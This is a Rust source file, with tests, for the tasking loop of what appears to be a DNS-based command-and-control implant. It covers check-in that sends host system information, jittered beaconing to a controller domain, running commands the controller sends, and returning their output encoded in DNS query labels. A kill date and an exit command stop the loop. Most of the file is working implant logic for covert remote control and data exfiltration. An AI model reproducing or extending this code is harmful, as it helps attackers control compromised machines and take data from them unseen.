//! The tasking loop state machine.
//!
//! One blocking thread drives the whole lifecycle: check-in, jittered
//! polling, command execution and result delivery. The states are
//! POLLING → SLEEPING → POLLING when nothing is queued,
//! POLLING → EXECUTING → SENDING_RESULT → SLEEPING when a task arrives, and
//! EXECUTING → TERMINATED for the `exit` command or a passed kill date.
//!
//! Failure handling follows the channel's taxonomy: a failed poll or result
//! delivery is logged and the loop simply proceeds to the next sleep cycle;
//! only a failed initial check-in is fatal, because an unregistered agent
//! has no session to poll for.

use crate::channel::TxtQuery;
use crate::config::apply_jitter;
use crate::session::AgentSession;
use crate::tasking::{self, ReplyMode};
use crate::transfer::{self, TransferRole};
use crate::CommandExecutor;

/// The tasking state machine, generic over the channel and the
/// command-execution collaborator.
///
/// Owns the session for its whole lifetime; constructing a loop is how a
/// session gets claimed, so two loops can never share sequence counters.
pub struct TaskingLoop<C, E> {
    session: AgentSession,
    channel: C,
    executor: E,
}

/// Picks the wire form of a result body for the given reply mode.
fn reply_body(mode: ReplyMode, task_id: &str, output: &str) -> String {
    match mode {
        ReplyMode::Json => tasking::result_envelope(task_id, output),
        ReplyMode::Plain => output.to_string(),
    }
}

impl<C: TxtQuery, E: CommandExecutor> TaskingLoop<C, E> {
    pub fn new(session: AgentSession, channel: C, executor: E) -> Self {
        Self {
            session,
            channel,
            executor,
        }
    }

    /// Runs the loop until the `exit` command or the kill date stops it.
    pub fn run(self) -> crate::error::Result<()> {
        self.run_while(|| true)
    }

    /// Runs the loop while `keep_running` returns true.
    ///
    /// The flag is observed at the top of each iteration only; an in-flight
    /// query or acknowledgement wait always runs to completion
    /// (cancellation is cooperative, never mid-operation).
    pub fn run_while(mut self, keep_running: impl Fn() -> bool) -> crate::error::Result<()> {
        let info = crate::checkin::system_info(&self.session.identity);
        if !transfer::send(
            &self.channel,
            &mut self.session,
            TransferRole::Checkin,
            info.as_bytes(),
        ) {
            return Err(crate::error::AgentError::validation_error(
                "Initial check-in failed",
            ));
        }

        let descriptor = crate::checkin::callback_descriptor(&self.session.identity);
        crate::checkin::register_callback(&descriptor);
        log::info!("Check-in complete, entering polling loop");

        while keep_running() {
            if self.session.config.is_kill_date_passed() {
                log::info!("Kill date passed, terminating");
                break;
            }

            let interval = apply_jitter(
                self.session.config.sleep_interval_ms,
                self.session.config.jitter_percent,
            );
            log::debug!("Sleeping for {} ms", interval);
            std::thread::sleep(std::time::Duration::from_millis(interval));

            let Some(raw) = self.poll() else {
                continue;
            };

            let Some((task, mode)) = tasking::interpret_poll_response(&raw) else {
                log::debug!("Dropping unparseable tasking payload");
                continue;
            };
            log::info!("Received task {} -> {}", task.id, task.command);

            let (name, args) = match task.command.split_once(' ') {
                Some((name, args)) => (name, args),
                None => (task.command.as_str(), ""),
            };
            let outcome = self
                .executor
                .execute(name, args, &mut self.session.config);

            if outcome.terminate {
                // Fire-and-forget: no result goes back for an exit.
                log::info!("Exit tasked, terminating");
                break;
            }

            let body = reply_body(mode, &task.id, &outcome.output);
            if !transfer::send(
                &self.channel,
                &mut self.session,
                TransferRole::Result,
                body.as_bytes(),
            ) {
                log::warn!("Result delivery for task {} failed", task.id);
            }
        }

        Ok(())
    }

    /// Issues one poll query (empty data label) and returns the raw reply.
    fn poll(&mut self) -> Option<String> {
        let tsid = self.session.next_poll_tsid();
        let tag = match crate::auth::sign(
            &tsid.to_string(),
            "",
            self.session.identity.shared_secret.as_bytes(),
        ) {
            Ok(tag) => tag,
            Err(err) => {
                log::error!("Cannot sign poll query: {}", err);
                return None;
            }
        };

        let name = crate::codec::encode_query(
            &self.session.config.poll_prefix,
            "",
            &self.session.config.domain,
            &tsid,
            &tag,
        );
        self.channel.query(&name)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::commands::BuiltinExecutor;
    use crate::config::{AgentConfig, AgentIdentity};
    use base64::Engine;
    use std::cell::RefCell;

    /// What the fake controller is currently expecting from the agent.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    enum Phase {
        CheckinUpload,
        FirstPoll,
        ResultUpload,
        SecondPoll,
    }

    /// Channel double playing the controller side of one full exchange:
    /// accept the check-in, task an unknown command, accept its result,
    /// then task an exit.
    struct FakeController {
        phase: RefCell<Phase>,
        result_fragments: RefCell<Vec<String>>,
    }

    impl FakeController {
        fn new() -> Self {
            Self {
                phase: RefCell::new(Phase::CheckinUpload),
                result_fragments: RefCell::new(Vec::new()),
            }
        }

        fn delivered_result(&self) -> String {
            let decoded: Vec<u8> = self
                .result_fragments
                .borrow()
                .iter()
                .flat_map(|fragment| {
                    base64::prelude::BASE64_URL_SAFE_NO_PAD
                        .decode(fragment)
                        .unwrap()
                })
                .collect();
            String::from_utf8(decoded).unwrap()
        }
    }

    impl TxtQuery for FakeController {
        fn query(&self, name: &str) -> Option<String> {
            let phase = *self.phase.borrow();
            let is_end = name.contains(".END.");

            match phase {
                Phase::CheckinUpload => {
                    if is_end {
                        *self.phase.borrow_mut() = Phase::FirstPoll;
                    }
                    Some("ACK".to_string())
                }
                Phase::FirstPoll => {
                    *self.phase.borrow_mut() = Phase::ResultUpload;
                    Some("task-1:frobnicate now".to_string())
                }
                Phase::ResultUpload => {
                    if is_end {
                        *self.phase.borrow_mut() = Phase::SecondPoll;
                    } else {
                        // prefix.tsid.data.tag.domain: third label is data
                        let fragment = name.split('.').nth(2).unwrap().to_string();
                        self.result_fragments.borrow_mut().push(fragment);
                    }
                    Some("ACK".to_string())
                }
                Phase::SecondPoll => Some("task-2:exit".to_string()),
            }
        }
    }

    fn fast_session() -> AgentSession {
        let mut config = AgentConfig::default();
        config.sleep_interval_ms = 0;
        config.jitter_percent = 0;
        AgentSession::new(
            AgentIdentity::new(
                "eff1d21a-3fb3-434b-8db3-1f6f3510623b".to_string(),
                "test-key".to_string(),
            )
            .unwrap(),
            config,
        )
    }

    #[test]
    fn full_exchange_delivers_the_fallback_result_and_exits() {
        let controller = FakeController::new();
        let looped = TaskingLoop::new(fast_session(), &controller, BuiltinExecutor);

        looped.run().unwrap();

        // The unknown command surfaced as a plain-mode textual result.
        assert_eq!(controller.delivered_result(), "Unknown command: frobnicate");
        assert_eq!(*controller.phase.borrow(), Phase::SecondPoll);
    }

    #[test]
    fn failed_checkin_is_fatal() {
        struct DeadChannel;
        impl TxtQuery for DeadChannel {
            fn query(&self, _name: &str) -> Option<String> {
                None
            }
        }

        let looped = TaskingLoop::new(fast_session(), DeadChannel, BuiltinExecutor);
        assert!(looped.run().is_err());
    }

    #[test]
    fn passed_kill_date_stops_polling() {
        struct CountingChannel {
            polls: RefCell<u32>,
        }
        impl TxtQuery for CountingChannel {
            fn query(&self, name: &str) -> Option<String> {
                // Poll queries carry no data label: prefix.tsid.tag + domain.
                if name.matches('.').count() == 5 {
                    *self.polls.borrow_mut() += 1;
                }
                Some("ACK".to_string())
            }
        }

        let channel = CountingChannel {
            polls: RefCell::new(0),
        };
        let mut session = fast_session();
        session.config.kill_date = chrono::NaiveDate::from_ymd_opt(2001, 1, 1);

        TaskingLoop::new(session, &channel, BuiltinExecutor)
            .run()
            .unwrap();
        assert_eq!(*channel.polls.borrow(), 0);
    }

    #[test]
    fn reply_body_wraps_json_mode_only() {
        assert_eq!(reply_body(ReplyMode::Plain, "t1", "out"), "out");
        assert_eq!(
            reply_body(ReplyMode::Json, "t1", "out"),
            "{\"task_id\":\"t1\",\"output\":\"out\"}"
        );
    }
}
